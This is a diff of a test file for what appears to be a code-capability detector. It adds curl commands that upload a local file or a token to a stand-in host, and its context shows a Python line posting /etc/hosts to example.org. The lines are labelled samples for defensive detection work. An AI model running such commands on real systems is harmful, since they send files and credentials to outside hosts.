@@ -171,6 +171,8 @@ def test_a_reverse_shell_is_put_together_from_its_parts(language, text):
             "python",
             "import requests; requests.post('https://example.org', data=open('/etc/hosts').read())",
         ),
+        ("network.send-file", "shell", "curl -F f=@report.xml https://e.example/x"),
+        ("network.send-file", "shell", "curl --form 'f=<report.xml' https://e.example/x"),
         (
             "network.send-file",
             "lua",
@@ -260,6 +262,8 @@ def test_a_capability_is_found(capability, language, text):
         ("credentials.environment-dump", "python", "import os; print(os.environ['PATH'])"),
         ("credentials.environment-dump", "javascript", "console.log(process.env.HOME)"),
         ("network.cleartext", "python", "print('http://localhost:8080/')"),
+        ("network.send-file", "shell", "curl -F token=$COVERITY_TOKEN https://e.example/x"),
+        ("network.send-file", "shell", "curl --form a=b https://e.example/x"),
         ("library.load", "python", "import ctypes; ctypes.CDLL('libc.so.6')"),
         ("persistence.cron", "perl", "`crontab -l`"),
         ("shell.spawn", "python", "import os; os.system('sh build.sh')"),
